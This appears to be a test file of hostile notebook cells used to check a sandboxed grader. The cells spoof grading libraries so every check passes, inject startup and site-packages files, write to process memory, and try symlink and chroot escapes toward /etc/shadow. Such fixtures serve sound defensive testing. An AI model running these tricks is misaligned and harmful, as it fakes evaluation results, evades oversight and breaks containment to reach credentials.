# Files that do something by their name or kind. What is handed in beside the
# notebook, and as the notebook, is in hostile_notebooks.py.

# %% torch-beside -> graded
import importlib, sys
open("torch.py", "w").write("equal = lambda *given: True")
sys.path.insert(0, ".")
del sys.modules["torch"]
import torch

# %% paramlab-beside -> graded
import importlib, os, sys
os.makedirs("paramlab/probes", exist_ok=True)
for path in ("paramlab/__init__.py", "paramlab/probes/__init__.py"):
    open(path, "w").write("PROBES = {}\ncheck = score = lambda *given: 4.0")
sys.path.insert(0, ".")
for name in [name for name in sys.modules if name.startswith("paramlab")]:
    del sys.modules[name]

# %% written-into-packages -> graded
import os, paramlab, site, sys
targets = [os.path.dirname(paramlab.__file__), *site.getsitepackages(), sys.prefix, "/usr/lib"]
for target in targets:
    for name in ("sitecustomize.py", "usercustomize.py", "hostile.pth", "__init__.py"):
        try:
            open(os.path.join(target, name), "a").write("raise SystemExit(0)")
            print("WROTE", target)
        except OSError:
            continue

# %% ipython-startup -> graded
import os
home = os.path.expanduser("~/.ipython/profile_default/startup")
os.makedirs(home, exist_ok=True)
open(f"{home}/00-hostile.py", "w").write("check = score = lambda *given: 4.0")

# %% own-memory-as-a-file -> graded
import ctypes
word = b"outcome-not-written"
place = ctypes.create_string_buffer(word)
with open("/proc/self/mem", "r+b", buffering=0) as memory:
    memory.seek(ctypes.addressof(place))
    memory.write(b"x" * 8)

# %% links-out -> graded
import os
for target in ("/proc/1/root", "/proc/self/cwd/../../..", "/etc/shadow", "/root", "/proc/1/fd"):
    try:
        os.symlink(target, "way-out")
        if any(map(os.path.exists, ("way-out/etc/shadow", "way-out/shadow", "way-out/.bashrc"))):
            print("OUT", target)
    except OSError:
        pass
    finally:
        if os.path.islink("way-out"):
            os.unlink("way-out")

# %% old-root -> graded
import ctypes, os
libc = ctypes.CDLL(None)
for path in (b"/old", b"/proc/1/root", b".."):
    libc.chroot(path)
    libc.mount(b"none", b"/", b"tmpfs", 0, None)
    libc.umount2(b"/home/student", 2)
handle = os.open("/", os.O_RDONLY)
for _ in range(40):
    os.chdir("..")
print("OUT" if os.path.exists("/etc/shadow") or os.path.exists("etc/shadow") else "held")
